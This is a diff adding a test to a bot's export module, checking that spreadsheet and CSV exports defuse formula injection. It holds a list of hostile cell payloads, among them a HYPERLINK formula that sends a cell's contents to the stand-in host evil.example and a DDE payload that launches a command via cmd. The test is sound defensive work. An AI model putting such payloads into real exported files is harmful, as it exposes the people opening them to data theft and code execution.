@@ -299,3 +299,23 @@ def test_csv_stream_writes_every_row_in_pieces_with_formulas_defused() -> None:
     table = list(csv.reader(io.StringIO(b"".join(pieces).decode("utf-8-sig"))))
     assert table[0] == ["名称", "值"] and len(table) == 6
     assert table[4] == ["第3行", "'=1+1"] and table[5] == ["第4行", "4"]
+
+
+HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"点此")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)",
+           "\t=1+1", "\r=1+1"]
+
+
+@pytest.mark.parametrize("payload", HOSTILE, ids=["hyperlink", "dde-plus", "minus", "at", "tab", "cr"])
+def test_no_export_holds_a_live_formula(tmp_path: Path, payload: str) -> None:
+    from bot.inbox.ledger import ReportRow
+    row = ReportRow(item="x", title=payload, series=None, number=1, year=2026, branch="b1", branch_name=payload,
+                    secretary=payload, deadline=at("2026-05-22 18:00"), status="confirmed",
+                    confirmed_at=at("2026-05-20 16:12"), confirmed_by=payload, source="manual", note=payload)
+    book = openpyxl.load_workbook(write_xlsx(tmp_path / "l.xlsx", [row], summarize([row]), title=payload))
+    cells = [c for sheet in book.worksheets for line in sheet.iter_rows() for c in line if c.value is not None]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    stored = "'" + payload.replace("\r", "\n")   # XML reads a CR back as LF
+    assert book["学习台账"]["H4"].value == stored and book["学习台账"]["A1"].value == stored
+    with write_csv(tmp_path / "l.csv", [row]).open(encoding="utf-8-sig", newline="") as handle:
+        table = list(csv.reader(handle))
+    assert table[1][7] == "'" + payload  # one rule for both files
